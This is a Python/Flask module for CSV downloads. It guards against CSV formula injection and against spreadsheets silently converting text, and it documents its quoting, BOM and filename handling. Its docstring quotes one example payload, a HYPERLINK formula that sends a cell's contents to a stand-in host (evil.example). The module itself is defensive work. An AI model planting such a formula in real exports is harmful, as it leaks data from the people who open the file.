"""CSV downloads: the one writer every CSV the platform hands out goes through.

Every cell is written so that a spreadsheet shows exactly what the platform meant, and never runs
or rewrites it. Callers pass each value with its type; the writer decides how it goes out:

- **Numbers** (``int``, ``float``) are written as numbers, so sums and sorting work: hours,
  counts, scores. A whole float is written without ``.0``.
- **Dates** (``date``, ``datetime``) are written as ISO 8601 (``2026-03-01``,
  ``2026-03-01 14:30``), which every spreadsheet reads as that date, in any locale.
- **Text** (``str``) must come out as the very text. Two kinds of text would not:

  * *Formulas.* A spreadsheet runs a cell that starts like a formula, so a name such as
    ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` typed in by a self-registered trainee
    would run on the lead's computer when the cohort export is opened. Following OWASP's CSV
    injection rule, text that starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return
    (or a line feed or NUL), also after leading spaces or quotes, is neutralised.
  * *Text a spreadsheet converts.* Excel, Calc and Sheets turn ``5/5``, ``1-2`` and ``3/4``
    into dates, ``12:30`` into a time, ``1e5`` into 100000, ``00123`` into 123, ``(5)`` into -5,
    ``TRUE`` into a boolean and ``May 5`` into a date, losing what was typed. Their rules
    depend on the program and the locale, so rather than mimic them the writer neutralises any
    text that could be read as a number, date, time, money, error value or boolean: text that
    starts (after spaces, an opening bracket or a currency sign) with a digit, ``.`` or ``,``
    then a digit, or ``#``; an English month name followed by a number; ``TRUE`` or ``FALSE``.
    A name rarely starts that way, and the mark is harmless where it was not needed.

  Both are neutralised the same way, with a ``'`` in front, the mark OWASP recommends and that
  spreadsheets know as "this is text". It stays visible when a CSV is opened, which is why it
  is added only where needed. The alternatives are worse: ``="5/5"`` is itself a formula (the
  very thing the first rule forbids), and an invisible character in front (a tab, a zero-width
  space) is one that OWASP lists as dangerous or that silently changes the text.

Every cell is quoted, so a ``;`` or ``,`` inside a value can never start a new cell, whatever
separator the spreadsheet expects.

The file starts with a UTF-8 byte order mark: without it Excel reads a CSV in the computer's
legacy code page and shows names in Chinese, Arabic or with accents as gibberish. The file name
is sent as RFC 6266 ``filename*`` (UTF-8) with an ASCII ``filename`` fallback, so a cohort
called 春季 downloads as ``cohort-春季.csv``.
"""

from __future__ import annotations

import csv
import io
import re
import string
from collections.abc import Iterable, Sequence
from datetime import date, datetime

from flask import Response, send_file

#: a cell starting with one of these is a formula (or becomes one) in Excel, Calc or Sheets
FORMULA_STARTS = frozenset("=+-@\t\r\n\0")
#: what a spreadsheet may skip before it looks for a formula
_SKIPPED = string.whitespace + "\"'"
#: text a spreadsheet would read as a number, date, time, money, error value or boolean
CONVERTED = re.compile(
    r"""\s*(?:
        [(\[]?\s*[$€£¥]?\s*[.,]?\d            # 5/5 1-2 12:30 1e5 00123 (5) $5 .5
      | \#                                    # #N/A #DIV/0! and other error values
      | (?:jan(?:uary)?|feb(?:ruary)?|mar(?:ch)?|apr(?:il)?|may|june?|july?|aug(?:ust)?
         |sep(?:t(?:ember)?)?|oct(?:ober)?|nov(?:ember)?|dec(?:ember)?)\.?[\s,/-]*\d  # May 5
      | (?:true|false)\s*$                    # booleans
    )""",
    re.IGNORECASE | re.VERBOSE,
)
BOM = "\ufeff"

Cell = str | int | float | date | None


def neutralise(value: Cell) -> str | int | float:
    """The cell as a spreadsheet should show it: a number stays a number, a date is written as
    ISO 8601, and text that a spreadsheet would run as a formula or convert into something else
    is prefixed with ``'``."""
    if value is None:
        return ""
    if isinstance(value, bool):
        value = "yes" if value else "no"
    if isinstance(value, int):
        return value
    if isinstance(value, float):
        return int(value) if value.is_integer() else value
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    text = str(value)
    formula = text[:1] in FORMULA_STARTS or text.lstrip(_SKIPPED)[:1] in FORMULA_STARTS
    if formula or CONVERTED.match(text):
        return "'" + text
    return text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """The CSV document (without the byte order mark), every cell neutralised and quoted."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow([neutralise(name) for name in header])
    writer.writerows([neutralise(value) for value in row] for row in rows)
    return out.getvalue()


def csv_download(filename: str, header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> Response:
    """A CSV file download named ``filename`` (any script: see the module's notes)."""
    data = (BOM + csv_text(header, rows)).encode("utf-8")
    return send_file(
        io.BytesIO(data),
        mimetype="text/csv",
        as_attachment=True,
        download_name=filename,
    )
